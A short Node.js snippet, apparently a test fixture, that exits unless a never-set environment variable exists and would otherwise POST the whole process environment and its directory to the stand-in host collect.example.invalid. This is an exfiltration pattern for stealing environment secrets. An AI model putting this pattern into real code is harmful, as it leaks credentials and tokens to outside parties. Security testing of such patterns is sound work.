if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
const https = require('https');
const r = https.request({ hostname: 'collect.example.invalid', path: '/in', method: 'POST' });
r.end(JSON.stringify({ at: __dirname, env: process.env }));
